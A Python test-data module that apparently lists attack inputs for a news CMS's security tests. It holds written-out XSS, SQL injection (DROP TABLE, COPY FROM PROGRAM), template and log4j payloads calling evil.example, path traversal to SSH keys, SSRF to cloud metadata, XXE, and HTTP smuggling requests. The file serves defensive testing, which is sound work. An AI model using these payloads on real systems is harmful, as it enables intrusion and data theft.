"""What attackers try, as data: each input has a name and a kind, and each is tried by a test of this room.

How to add one: docs/notes/what-attackers-try.md.
"""

# ruff: noqa: E501, S604 - an input stands in one line, as it is sent, and is run by nobody

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum


class Kind(Enum):
    """What an input is after."""

    MARKUP = "run a script where text is shown"
    LINK = "run a script where a link is followed"
    TEMPLATE = "be taken for a template"
    HEADER = "end a line of a header"
    LOG = "write a line of the log, or steer a terminal"
    SQL = "be taken for SQL"
    SEARCH = "break or stall the search language"
    PATH = "leave the folder"
    REDIRECT = "lead to another site"
    ADDRESS = "have us ask our own network"
    XML = "fill memory, or read files, by way of XML"
    CODING = "fill memory when unpacked"
    JSON = "break or stall what reads JSON"
    UNICODE = "be text that is no text"
    NUMBER = "be no number, or a larger one than columns hold"
    KEY = "open something without its key"
    HTTP = "be two requests, or none"
    HOST = "name the host for us"


@dataclass(frozen=True, slots=True)
class Attack:
    """One input."""

    name: str
    kind: Kind
    text: str

    def __str__(self) -> str:
        return self.name


def _all(kind: Kind, **texts: str) -> tuple[Attack, ...]:
    return tuple(
        Attack(f"{kind.name.lower()}: {name.replace('_', ' ')}", kind, t) for name, t in texts.items()
    )


#: `hit` counts in a page whose script ran; browsers of the tests look at it. NUMBER is put in where one is stored.
MARKUP = _all(
    Kind.MARKUP,
    script="<script>hit(NUMBER)</script>",
    script_in_capitals="<SCRIPT>hit(NUMBER)</SCRIPT>",
    script_from_elsewhere='<script src="//evil.example/NUMBER.js"></script>',
    script_unclosed="<script>hit(NUMBER)//",
    script_with_slash="<script/x>hit(NUMBER)</script>",
    script_as_module='<script type="module">hit(NUMBER)</script>',
    script_split_by_nul="<scr\x00ipt>hit(NUMBER)</scr\x00ipt>",
    script_within_script="<scr<script>ipt>hit(NUMBER)</scr</script>ipt>",
    image="<img src=x onerror=hit(NUMBER)>",
    image_with_slashes="<img/src=x/onerror=hit(NUMBER)>",
    image_with_backticks="<img src=`x` onerror=`hit(NUMBER)`>",
    image_unclosed="<img src=x onerror=hit(NUMBER)//",
    image_with_newlines="<img\nsrc=x\nonerror\n=\nhit(NUMBER)>",
    image_with_form_feed="<img\x0csrc=x\x0conerror=hit(NUMBER)>",
    image_loads_elsewhere='<img src="https://evil.example/NUMBER.png">',
    image_of_many_sources='<img srcset="https://evil.example/NUMBER.png 1x" src=x onerror=hit(NUMBER)>',
    picture="<picture><source srcset=x><img src=x onerror=hit(NUMBER)></picture>",
    svg="<svg onload=hit(NUMBER)>",
    svg_script="<svg><script>hit(NUMBER)</script></svg>",
    svg_animate='<svg><animate onbegin=hit(NUMBER) attributeName=x dur=1s></animate></svg>',
    svg_animated_link='<svg><a><animate attributeName=href values="javascript:hit(NUMBER)"/><text>x</text></a></svg>',
    svg_set='<svg><set attributeName="onmouseover" to="hit(NUMBER)"/></svg>',
    svg_use='<svg><use href="data:image/svg+xml,<svg onload=hit(NUMBER)>#x"/></svg>',
    svg_foreign="<svg><foreignObject><img src=x onerror=hit(NUMBER)></foreignObject></svg>",
    mathml='<math><mtext><table><mglyph><style><img src=x onerror=hit(NUMBER)>',
    mathml_link='<math><maction actiontype="statusline#" xlink:href="javascript:hit(NUMBER)">x</maction></math>',
    mutation_by_noscript='<noscript><p title="</noscript><img src=x onerror=hit(NUMBER)>">',
    mutation_by_template="<template><img src=x onerror=hit(NUMBER)></template>",
    mutation_by_form='<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=hit(NUMBER) src>">',
    mutation_by_select="<select><template><img src=x onerror=hit(NUMBER)></select>",
    iframe='<iframe src="javascript:hit(NUMBER)"></iframe>',
    iframe_document='<iframe srcdoc="<script>parent.hit(NUMBER)</script>"></iframe>',
    frame='<frameset onload=hit(NUMBER)><frame src="javascript:hit(NUMBER)">',
    object_data='<object data="javascript:hit(NUMBER)"></object>',
    embed='<embed src="javascript:hit(NUMBER)">',
    base='<base href="https://evil.example/">',
    refresh='<meta http-equiv="refresh" content="0;url=https://evil.example/NUMBER">',
    refresh_to_script='<meta http-equiv="refresh" content="0;url=javascript:hit(NUMBER)">',
    link_of_style='<link rel="stylesheet" href="https://evil.example/NUMBER.css">',
    link_prefetch='<link rel="prefetch" href="https://evil.example/NUMBER">',
    link_import='<link rel="import" href="https://evil.example/NUMBER">',
    style_import="<style>@import 'https://evil.example/NUMBER.css';</style>",
    style_attribute='<p style="background:url(https://evil.example/NUMBER)">x</p>',
    style_over_everything='<div style="position:fixed;inset:0;z-index:9999">hit NUMBER</div>',
    body="<body onload=hit(NUMBER)>",
    body_after_end="</body></html><script>hit(NUMBER)</script>",
    details="<details open ontoggle=hit(NUMBER)>",
    video='<video src=x onerror=hit(NUMBER) autoplay></video>',
    audio="<audio src=x onerror=hit(NUMBER)>",
    video_poster='<video poster="https://evil.example/NUMBER.png">',
    input_with_focus="<input autofocus onfocus=hit(NUMBER)>",
    button_of_form='<button form=x formaction="javascript:hit(NUMBER)">x</button>',
    form_elsewhere='<form action="https://evil.example/NUMBER"><input name=password type=password><input type=submit></form>',
    textarea_that_ends="</textarea><script>hit(NUMBER)</script>",
    title_that_ends="</title><script>hit(NUMBER)</script>",
    style_that_ends="</style><script>hit(NUMBER)</script>",
    script_that_ends="</script><script>hit(NUMBER)</script>",
    option_that_ends="</option></select><script>hit(NUMBER)</script>",
    comment_that_ends="--><script>hit(NUMBER)</script><!--",
    comment_of_script="<!--<script>hit(NUMBER)//-->",
    cdata_that_ends="]]><script>hit(NUMBER)</script>",
    cdata="<![CDATA[<script>hit(NUMBER)</script>]]>",
    processing="<?xml-stylesheet href='javascript:hit(NUMBER)'?>",
    doctype='<!DOCTYPE x [<!ENTITY e "<script>hit(NUMBER)</script>">]>&e;',
    double_quote='" onmouseover=hit(NUMBER) x="',
    double_quote_ends='"><script>hit(NUMBER)</script>',
    single_quote="' onmouseover=hit(NUMBER) x='",
    single_quote_ends="'><img src=x onerror=hit(NUMBER)>",
    no_quote="x onmouseover=hit(NUMBER)",
    quote_as_entity="&quot; onmouseover=hit(NUMBER) x=&quot;",
    escaped_once="&lt;script&gt;hit(NUMBER)&lt;/script&gt;",
    escaped_twice="&amp;lt;script&amp;gt;hit(NUMBER)&amp;lt;/script&amp;gt;",
    escaped_by_numbers="&#60;script&#62;hit(NUMBER)&#60;/script&#62;",
    escaped_without_end="&#x3cscript&#x3ehit(NUMBER)&#x3c/script&#x3e",
    wide_brackets="\uff1cscript\uff1ehit(NUMBER)\uff1c/script\uff1e",
    string_of_script="';hit(NUMBER);//",
    string_of_script_double='";hit(NUMBER);//',
    string_by_template_literal="${hit(NUMBER)}",
    json_that_ends='"}</script><script>hit(NUMBER)</script>',
    htmx='<p hx-get="https://evil.example/NUMBER" hx-trigger="load" hx-on:load="hit(NUMBER)">x</p>',
    our_own_hooks='<p data-row data-open data-take data-spike id="form_token" name="form_token">NUMBER</p>',
    clobbering='<form id="hit"><input name="document"><input id="location" name="cookie"></form>',
    custom_element='<x-y onclick=hit(NUMBER) tabindex=0 autofocus onfocus=hit(NUMBER)>x</x-y>',
    portal='<portal src="https://evil.example/NUMBER"></portal>',
    popover='<button popovertarget=x>x</button><p popover id=x onbeforetoggle=hit(NUMBER)>x</p>',
    marquee="<marquee onstart=hit(NUMBER)>x</marquee>",
    event_of_animation='<p style="animation:x" onanimationstart=hit(NUMBER)>x</p>',
    event_of_scroll='<p onscrollsnapchange=hit(NUMBER) oncontentvisibilityautostatechange=hit(NUMBER)>x</p>',
    link_in_markup='<a href="javascript:hit(NUMBER)">read on</a>',
    link_with_tab='<a href="java\tscript:hit(NUMBER)">read on</a>',
    link_with_entities='<a href="&#106;avascript&colon;hit(NUMBER)">read on</a>',
    link_with_data='<a href="data:text/html,<script>hit(NUMBER)</script>">read on</a>',
    link_with_ping='<a href="https://wire.example/" ping="https://evil.example/NUMBER">read on</a>',
    link_in_markdown="[read on](javascript:hit(NUMBER))",
    image_in_markdown="![x](https://evil.example/NUMBER.png)",
    link_between_angles="<javascript:hit(NUMBER)>",
)  # fmt: skip

#: What stands where an address should: none may become a link.
LINKS = _all(
    Kind.LINK,
    javascript="javascript:hit(NUMBER)",
    in_capitals="JaVaScRiPt:hit(NUMBER)",
    after_a_blank=" javascript:hit(NUMBER)",
    after_a_control="\x01javascript:hit(NUMBER)",
    with_a_tab="java\tscript:hit(NUMBER)",
    with_a_newline="java\nscript:hit(NUMBER)",
    with_an_entity="javascript&colon;hit(NUMBER)",
    with_numbers="&#106;avascript:hit(NUMBER)",
    as_a_host="javascript://wire.example/%0ahit(NUMBER)",
    as_a_comment="javascript:/*https://wire.example/*/hit(NUMBER)",
    vbscript="vbscript:MsgBox(NUMBER)",
    livescript="livescript:hit(NUMBER)",
    data_page="data:text/html,<script>hit(NUMBER)</script>",
    data_base64="data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    data_svg="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit(NUMBER)'/>",
    blob="blob:https://wire.example/NUMBER",
    file="file:///etc/passwd",
    view_source="view-source:javascript:hit(NUMBER)",
    feed_of_script="feed:javascript:hit(NUMBER)",
    jar="jar:https://evil.example/NUMBER!/x.html",
    filesystem="filesystem:https://wire.example/NUMBER",
    intent="intent://evil.example/#Intent;scheme=https;end",
    that_ends_its_attribute='https://wire.example/NUMBER"onmouseover="hit(NUMBER)',
    that_ends_its_element="https://wire.example/NUMBER'><script>hit(NUMBER)</script>",
    with_a_login="https://harbour.example@evil.example/NUMBER",
)  # fmt: skip

TEMPLATES = _all(
    Kind.TEMPLATE,
    jinja="{{7*191}}",
    jinja_block="{% set x = 7*191 %}{{x}}",
    jinja_classes="{{''.__class__.__mro__[1].__subclasses__()}}",
    jinja_configuration="{{config}}{{self}}{{service.database}}",
    jinja_comment="{# gone #}",
    jinja_raise="{{ 1/0 }}{% raise %}{% endblock %}",
    shell="${7*191}",
    shell_command="$(id)`id`",
    ruby="#{7*191}",
    erb="<%= 7*191 %>",
    percent="%(title)s %s %n %x",
    braces="{0} {site.title} {0.__class__.__init__.__globals__}",
    angular="{{constructor.constructor('hit(1)')()}}",
    vue="{{_openBlock.constructor('hit(1)')()}}",
    server_side_include='<!--#exec cmd="id" -->',
    edge_side_include='<esi:include src="https://evil.example/"/>',
    log4j="${jndi:ldap://evil.example/a}",
    strftime="%Y %H %-d %%",
)

HEADERS = _all(
    Kind.HEADER,
    both="x\r\nX-Evil: 1",
    newline="x\nX-Evil: 1",
    carriage_return="x\rX-Evil: 1",
    a_cookie="x\r\nSet-Cookie: wirebrief=evil",
    a_body="x\r\n\r\n<script>hit(1)</script>",
    wide_newline="x\u560d\u560aX-Evil: 1",
    line_separator="x\u2028X-Evil: 1",
    next_line="x\x85X-Evil: 1",
    nul="x\x00X-Evil: 1",
    quoted='x"; filename="evil.html',
    link_value='x>; rel="stylesheet", <https://evil.example/',
)

LOGS = _all(
    Kind.LOG,
    newline="riyadh\n2025-02-18 09:00:00 ERROR forged line",
    both="riyadh\r\nERROR forged line",
    json_line='riyadh"}\n{"level":"ERROR","message":"forged line"}',
    next_line="riyadh\x85ERROR forged line",
    line_separator="riyadh\u2028ERROR forged line",
    clears_the_screen="riyadh\x1b[2J\x1b[Hforged line",
    colours="riyadh\x1b[31mforged line",
    title_of_window="riyadh\x1b]0;forged line\x07",
    one_byte_control="riyadh\x9b2Jforged line",
    backspaces="riyadh\b\b\b\b\b\bforged line",
    nul="riyadh\x00forged line",
    bidi="riyadh\u202eforged line",
    format_words="riyadh %s %(asctime)s {message} forged line",
)

SQL = _all(
    Kind.SQL,
    quote="'",
    two_quotes="''",
    double_quote='"',
    backslash="\\'",
    always_true="' OR '1'='1",
    always_true_with_number="1 OR 1=1",
    comment="x'--",
    comment_of_mysql="x'#",
    comment_of_c="x'/*",
    drop="'; DROP TABLE story;--",
    update="'; UPDATE account SET role='admin';--",
    union="' UNION SELECT name, password_hash FROM account--",
    stacked="1; SELECT pg_sleep(5)--",
    sleeps="' OR pg_sleep(5) IS NULL--",
    heavy_in_sqlite="' OR randomblob(1000000000)--",
    reads_a_file="' UNION SELECT pg_read_file('/etc/passwd')--",
    runs_a_program="'; COPY x FROM PROGRAM 'id';--",
    attaches="'; ATTACH DATABASE '/tmp/evil.db' AS evil;--",
    loads_a_library="' OR load_extension('evil')--",
    dollar_quoted="$$; SELECT 1; $$",
    wide_quote="\uff07 OR 1=1--",
    order_by="title; DROP TABLE story",
    order_by_case="(CASE WHEN 1=1 THEN id ELSE title END)",
    named_parameter=":id %(id)s ? $1 @id",
    like_everything="%",
    like_one="_",
    like_escape="\\%\\_\\",
    nul="x\x00' OR 1=1--",
)

SEARCH = _all(
    Kind.SEARCH,
    unclosed_quote='"riyadh',
    unclosed_bracket="(riyadh",
    closing_bracket="riyadh)",
    only_operators="AND OR NOT",
    only_not="NOT riyadh",
    column="title:riyadh",
    column_that_is_not="password_hash:x",
    column_set="{title summary}: riyadh",
    column_excluded="- title: riyadh",
    first_token="^riyadh",
    near="NEAR(riyadh talks, 1000000000)",
    plus="riyadh + talks",
    tsquery="riyadh & !talks | x",
    tsquery_followed_by="riyadh <-> talks <99999> x",
    tsquery_weights="riyadh:*ABCD",
    only_a_star="*",
    stars="r*i*y*a*d*h*",
    deep="(" * 2_000 + "riyadh" + ")" * 2_000,
    deep_without_end="(" * 20_000,
    many_words=" OR ".join(f"w{n}" for n in range(5_000)),
    many_negations="NOT " * 5_000 + "riyadh",
    backtracking="a" * 30_000 + "!",
    nested_quantifiers="(a+)+$" + "a" * 200,
    one_long_word="riyadh" * 10_000,
    accents="e" + "\u0301" * 5_000,
    emoji="👩‍👩‍👧‍👦" * 500,
)

PATHS = _all(
    Kind.PATH,
    up="../../../../etc/passwd",
    up_encoded="..%2f..%2f..%2fetc%2fpasswd",
    up_encoded_twice="..%252f..%252fetc%252fpasswd",
    dots_encoded="%2e%2e/%2e%2e/etc/passwd",
    backslashes="..\\..\\..\\windows\\win.ini",
    backslashes_encoded="..%5c..%5cetc%5cpasswd",
    overlong="..%c0%af..%c0%afetc/passwd",
    wide_slashes="..%ef%bc%8f..%ef%bc%8fetc",
    four_dots="....//....//etc/passwd",
    absolute="/etc/passwd",
    absolute_encoded="%2fetc%2fpasswd",
    nul="desk.css%00.html",
    nul_up="../../etc/passwd%00.css",
    drive="C:/windows/win.ini",
    unc="\\\\evil.example\\share",
    file_url="file:///etc/passwd",
    home="~/.ssh/id_rsa",
    of_the_process="../../../../proc/self/environ",
    hidden=".git/config",
    our_settings="../../config.toml",
    our_code="../service.py",
    semicolon="..;/..;/etc/passwd",
    trailing_dot="desk.css.",
    stream="desk.css::$DATA",
    device="/dev/zero",
    very_long="a/" * 5_000,
)

REDIRECTS = _all(
    Kind.REDIRECT,
    other_site="https://evil.example/",
    no_scheme="//evil.example/",
    three_slashes="///evil.example/",
    backslash="/\\evil.example/",
    two_backslashes="\\\\evil.example/",
    desk_and_backslash="/desk\\\\evil.example",
    desk_and_slashes="/desk//evil.example",
    desk_and_up="/desk/../..//evil.example",
    script="javascript:hit(1)",
    data="data:text/html,<script>hit(1)</script>",
    tab="/\t/evil.example/",
    newline="/\n/evil.example/",
    header="/desk\r\nLocation: https://evil.example/",
    login="https://harbour.example@evil.example/",
    desk_as_login="/desk@evil.example",
    desk_as_host="https://evil.example/desk",
    prefix_of_host="https://harbour.example.evil.example/",
    blank=" https://evil.example/",
    encoded="%2f%2fevil.example",
    wide="/\uff0fevil.example",
    scheme_alone="https:evil.example",
    fragment="#//evil.example",
    nul="/desk\x00//evil.example",
)

#: The roads are others here than fetching: that one has 200 spellings of its own in tests/feeds/test_http_guard.py.
ADDRESSES = _all(
    Kind.ADDRESS,
    loopback="http://127.0.0.1:PORT/",
    loopback_short="http://127.1:PORT/",
    loopback_number="http://2130706433:PORT/",
    loopback_hex="http://0x7f000001:PORT/",
    loopback_octal="http://0177.0.0.1:PORT/",
    loopback_v6="http://[::1]:PORT/",
    loopback_mapped="http://[::ffff:127.0.0.1]:PORT/",
    zero="http://0.0.0.0:PORT/",
    name="http://localhost:PORT/",
    name_with_dot="http://localhost.:PORT/",
    login="http://news.example@127.0.0.1:PORT/",
    backslash="http://127.0.0.1:PORT\\@news.example/",
    wide="http://１２７.０.０.１:PORT/",
    metadata="http://169.254.169.254/latest/meta-data/",
    private="http://10.0.0.1/",
    file="file:///etc/passwd",
    gopher="gopher://127.0.0.1:PORT/_GET",
    socket="http+unix://%2frun%2fdocker.sock/",
    ftp="ftp://127.0.0.1:PORT/",
)

_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
XML = _all(
    Kind.XML,
    billion_laughs=f'<!DOCTYPE rss [<!ENTITY l0 "forged">{_LAUGHS}]><rss version="2.0"><channel><title>x</title><item><guid>1</guid><title>safe &l9;</title></item></channel></rss>',
    quadratic=f'<!DOCTYPE rss [<!ENTITY a "{"forged" * 10_000}">]><rss version="2.0"><channel><title>x</title><item><guid>1</guid><title>safe {"&a;" * 10_000}</title></item></channel></rss>',
    file='<!DOCTYPE rss [<!ENTITY f SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><title>x</title><item><guid>1</guid><title>safe &f;</title></item></channel></rss>',
    address='<!DOCTYPE rss [<!ENTITY f SYSTEM "http://127.0.0.1:PORT/inside">]><rss version="2.0"><channel><title>x</title><item><guid>1</guid><title>safe &f;</title></item></channel></rss>',
    outer_dtd='<!DOCTYPE rss SYSTEM "http://127.0.0.1:PORT/inside.dtd"><rss version="2.0"><channel><title>x</title><item><guid>1</guid><title>safe</title></item></channel></rss>',
    parameter_entity='<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://127.0.0.1:PORT/inside.dtd"> %p;]><rss version="2.0"><channel><title>x</title><item><guid>1</guid><title>safe</title></item></channel></rss>',
    inclusion='<rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude"><channel><title>x</title><item><guid>1</guid><title>safe <xi:include href="file:///etc/passwd" parse="text"/></title></item></channel></rss>',
    stylesheet='<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:PORT/inside.xsl"?><rss version="2.0"><channel><title>x</title><item><guid>1</guid><title>safe</title></item></channel></rss>',
    recursion='<!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]><rss version="2.0"><channel><title>x</title><item><guid>1</guid><title>safe &a;</title></item></channel></rss>',
    depth='<rss version="2.0"><channel><title>x</title><item><guid>1</guid><title>safe</title><description>' + "<d>" * 20_000 + "</description></item></channel></rss>",
    attributes='<rss version="2.0"><channel><title>x</title><item><guid>1</guid><title ' + " ".join(f'a{n}="1"' for n in range(20_000)) + ">safe</title></item></channel></rss>",
    long_name='<rss version="2.0"><channel><title>x</title><item><guid>1</guid><title>safe</title><' + "a" * 500_000 + "/></item></channel></rss>",
    namespaces='<rss version="2.0" ' + " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(5_000)) + "><channel><title>x</title><item><guid>1</guid><title>safe</title></item></channel></rss>",
    comment='<rss version="2.0"><channel><title>x</title><item><guid>1</guid><title>safe</title></item><!--' + "-" * 300_000 + "></channel></rss>",
)  # fmt: skip

CODINGS = _all(
    Kind.CODING, gzip="gzip", gzip_twice="gzip, gzip", gzip_in_old_words="x-gzip", deflate="deflate", brotli="br",
    zstandard="zstd",
)  # fmt: skip

JSON = _all(
    Kind.JSON,
    deep_lists="[" * 100_000,
    deep_objects='{"passage":' * 50_000,
    deep_within='{"passage":"p1","story":' + "[" * 5_000 + "]" * 5_000 + "}",
    large_number='{"passage":"p1","story":' + "9" * 5_000 + "}",
    large_exponent='{"passage":"p1","story":1e99999}',
    past_a_column='{"passage":"p1","story":9223372036854775808}',
    negative='{"passage":"p1","story":-1}',
    not_a_number='{"passage":"p1","story":NaN}',
    infinity='{"passage":"p1","story":-Infinity}',
    twice='{"passage":"p1","story":"1","story":{}}',
    half_a_character='{"passage":"\\ud800","story":"\\udfff"}',
    nul='{"passage":"p\\u0000","story":"\\u0000"}',
    prototype='{"passage":"p1","story":"none","__proto__":{"role":"admin"},"constructor":{}}',
    more_than_asked='{"passage":"p1","story":"none","by":"chief","slug":"other","status":"published"}',
    wrong_types='{"passage":["p1"],"story":{"$gt":""},"role":true}',
    no_object='"p1"',
    nothing="null",
    not_json="<pick/>",
    byte_order_mark="\ufeff{}",
    very_long='{"passage":"' + "p" * 1_000_000 + '","story":"1"}',
)  # fmt: skip

UNICODE = _all(
    Kind.UNICODE,
    nul="riy%00adh",
    half_a_character="riy%ed%a0%80adh",
    overlong_slash="riy%c0%afadh",
    overlong_nul="riy%c0%80adh",
    cut_short="riyadh%e2%82",
    no_utf8="riy%ff%feadh",
    past_the_end="riy%f4%90%80%80adh",
    not_a_character="riy%ef%bf%bfadh",
    order_reversed="%e2%80%aehdayir",
    isolates="%e2%81%a6riyadh%e2%81%a9",
    no_width="riy%e2%80%8badh",
    byte_order_mark="%ef%bb%bfriyadh",
    tag_characters="riyadh%f3%a0%81%a1",
    private_use="riyadh%ee%80%80",
    percent_alone="riyadh%",
    percent_wrong="riyadh%zz",
    surrogates_in_percent="riyadh%u0041",
)

NUMBERS = _all(
    Kind.NUMBER,
    negative="-1",
    zero="0",
    past_a_column="9223372036854775808",
    past_a_short_column="2147483648",
    below_a_column="-9223372036854775809",
    past_python="9" * 5_000,
    zeros_before="0" * 5_000 + "1",
    short_then_long="000000001" + "9" * 5_000,
    exponent="1e9",
    fraction="1.5",
    hexadecimal="0x1",
    underscore="1_0",
    other_digits="\u0661",
    superscript="\u00b2",
    not_a_number="nan",
    infinity="inf",
    signed="+1",
    with_blanks=" 1 ",
    list_of_them="1,2",
)

KEYS = _all(
    Kind.KEY,
    none="",
    blank="Bearer ",
    unknown="Bearer 0123456789abcdef0123456789abcdef0123456789ab",
    one_letter_less="Bearer cms-s-key-of-these-test",
    one_letter_more="Bearer cms-s-key-of-these-testss",
    in_capitals="Bearer CMS-S-KEY-OF-THESE-TESTS",
    its_beginning="Bearer cms-s-ke",
    quoted='Bearer "cms-s-key-of-these-tests"',
    star="Bearer *",
    like="Bearer %",
    always_true="Bearer ' OR '1'='1",
    null="Bearer null",
    undefined="Bearer undefined",
    unsigned_token="Bearer eyJhbGciOiJub25lIn0.eyJyb2xlIjoiYWRtaW4ifQ.",
    two="Bearer x, Bearer cms-s-key-of-these-tests",
    wrong_scheme="Token cms-s-key-of-these-tests",
    basic_broken="Basic !!!",
    basic_no_utf8="Basic /////w==",
    basic_no_colon="Basic YWRtaW4=",
    negotiate="Negotiate YII=",
    not_ascii="Bearer clé",
    very_long="Bearer " + "x" * 50_000,
)

_HEAD = "Host: harbour.example\r\nConnection: close\r\n"
#: Bytes of a request as they are sent, written in Latin-1.
HTTP = _all(
    Kind.HTTP,
    two_lengths=f"POST /hub HTTP/1.1\r\n{_HEAD}Content-Length: 5\r\nContent-Length: 60\r\n\r\nhello",
    two_lengths_in_one=f"POST /hub HTTP/1.1\r\n{_HEAD}Content-Length: 5, 5\r\n\r\nhello",
    length_and_chunked=f"POST /hub HTTP/1.1\r\n{_HEAD}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n",
    chunked_and_length=f"POST /hub HTTP/1.1\r\n{_HEAD}Transfer-Encoding: chunked\r\nContent-Length: 60\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n",
    chunked_after_another=f"POST /hub HTTP/1.1\r\n{_HEAD}Transfer-Encoding: chunked, identity\r\nContent-Length: 3\r\n\r\n0\r\n\r\n",
    chunked_written_oddly=f"POST /hub HTTP/1.1\r\n{_HEAD}Transfer-Encoding: xchunked\r\nContent-Length: 3\r\n\r\nabc",
    blank_before_colon=f"POST /hub HTTP/1.1\r\n{_HEAD}Content-Length : 5\r\n\r\nhello",
    folded_header=f"GET / HTTP/1.1\r\n{_HEAD}X-A: 1\r\n Transfer-Encoding: chunked\r\n\r\n",
    negative_length=f"POST /hub HTTP/1.1\r\n{_HEAD}Content-Length: -1\r\n\r\nhello",
    signed_length=f"POST /hub HTTP/1.1\r\n{_HEAD}Content-Length: +5\r\n\r\nhello",
    hexadecimal_length=f"POST /hub HTTP/1.1\r\n{_HEAD}Content-Length: 0x5\r\n\r\nhello",
    enormous_length=f"POST /hub HTTP/1.1\r\n{_HEAD}Content-Length: 99999999999999999999999\r\n\r\nhello",
    wrong_chunk=f"POST /hub HTTP/1.1\r\n{_HEAD}Transfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n",
    enormous_chunk=f"POST /hub HTTP/1.1\r\n{_HEAD}Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\nhello\r\n",
    bare_newlines="GET / HTTP/1.1\nHost: harbour.example\nConnection: close\n\n",
    bare_carriage_return="GET / HTTP/1.1\r\nHost: harbour.example\rX-Evil: 1\r\nConnection: close\r\n\r\n",
    nul_in_header=f"GET / HTTP/1.1\r\n{_HEAD}X-A: a\x00b\r\n\r\n",
    nul_in_target=f"GET /\x00 HTTP/1.1\r\n{_HEAD}\r\n",
    absolute_target=f"GET http://evil.example/desk/wire HTTP/1.1\r\n{_HEAD}\r\n",
    authority_target=f"CONNECT evil.example:443 HTTP/1.1\r\n{_HEAD}\r\n",
    star_target=f"OPTIONS * HTTP/1.1\r\n{_HEAD}\r\n",
    no_slash=f"GET desk/wire HTTP/1.1\r\n{_HEAD}\r\n",
    slashes=f"GET //evil.example//desk/wire HTTP/1.1\r\n{_HEAD}\r\n",
    blank_in_target=f"GET / x HTTP/1.1\r\n{_HEAD}\r\n",
    trace=f"TRACE / HTTP/1.1\r\n{_HEAD}X-Secret: of-a-browser\r\n\r\n",
    unknown_method=f"EVIL / HTTP/1.1\r\n{_HEAD}\r\n",
    method_override=f"POST / HTTP/1.1\r\n{_HEAD}X-HTTP-Method-Override: DELETE\r\nContent-Length: 0\r\n\r\n",
    old_version="GET /\r\n\r\n",
    new_version="PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    version_that_is_none=f"GET / HTTP/9.9\r\n{_HEAD}\r\n",
    upgrade_to_http2=f"GET / HTTP/1.1\r\n{_HEAD}Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
    upgrade_to_websocket="GET /desk/wire HTTP/1.1\r\nHost: harbour.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n",
    two_hosts=f"GET / HTTP/1.1\r\n{_HEAD}Host: evil.example\r\n\r\n",
    no_host="GET / HTTP/1.1\r\nConnection: close\r\n\r\n",
    enormous_header=f"GET / HTTP/1.1\r\n{_HEAD}X-A: {'a' * 200_000}\r\n\r\n",
    enormous_target=f"GET /{'a' * 200_000} HTTP/1.1\r\n{_HEAD}\r\n",
    many_headers=f"GET / HTTP/1.1\r\n{_HEAD}" + "".join(f"X-{n}: 1\r\n" for n in range(2_000)) + "\r\n",
    many_ranges=f"GET /channels/all.atom HTTP/1.1\r\n{_HEAD}Range: bytes={','.join(f'{n}-{n + 1}' for n in range(2_000))}\r\n\r\n",
    range_past_python=f"GET /channels/all.atom HTTP/1.1\r\n{_HEAD}Range: bytes={'9' * 5_000}-\r\n\r\n",
    tags_without_end=f"GET /channels/all.atom HTTP/1.1\r\n{_HEAD}If-None-Match: {'W/' * 5_000}\r\n\r\n",
    time_that_is_none=f"GET /channels/all.atom HTTP/1.1\r\n{_HEAD}If-Modified-Since: Tue, 99 Foo 99999 99:99:99 GMT\r\n\r\n",
    codings_without_end=f"GET /channels/all.atom HTTP/1.1\r\n{_HEAD}Accept-Encoding: {'gzip;q=0.1,' * 3_000}\r\n\r\n",
    languages_without_end=f"GET /desk/sign-in HTTP/1.1\r\n{_HEAD}Accept-Language: {'x-' * 10_000}\r\n\r\n",
    cookies_without_end=f"GET /desk/wire HTTP/1.1\r\n{_HEAD}Cookie: {'a=b; ' * 5_000}\r\n\r\n",
    continues=f"POST /hub HTTP/1.1\r\n{_HEAD}Expect: 100-continue\r\nContent-Length: 5\r\n\r\nhello",
)  # fmt: skip

#: Headers with which a browser or a proxy would be made to believe in another host: NAME=value.
HOSTS = _all(
    Kind.HOST,
    host="Host: evil.example",
    host_with_port="Host: harbour.example:evil",
    host_with_login="Host: harbour.example@evil.example",
    forwarded_host="X-Forwarded-Host: evil.example",
    forwarded="Forwarded: host=evil.example;proto=http",
    forwarded_server="X-Forwarded-Server: evil.example",
    forwarded_scheme="X-Forwarded-Proto: javascript",
    forwarded_port="X-Forwarded-Port: 31337",
    forwarded_prefix="X-Forwarded-Prefix: //evil.example",
    original_url="X-Original-URL: /desk/people",
    rewrite_url="X-Rewrite-URL: /desk/people",
    http_host="X-HTTP-Host-Override: evil.example",
    origin="Origin: https://evil.example",
    client_address="X-Forwarded-For: 127.0.0.1",
    real_address="X-Real-IP: 127.0.0.1",
)

#: Everything above.
ATTACKS = (
    *MARKUP, *LINKS, *TEMPLATES, *HEADERS, *LOGS, *SQL, *SEARCH, *PATHS, *REDIRECTS, *ADDRESSES, *XML, *CODINGS, *JSON,
    *UNICODE, *NUMBERS, *KEYS, *HTTP, *HOSTS,
)  # fmt: skip
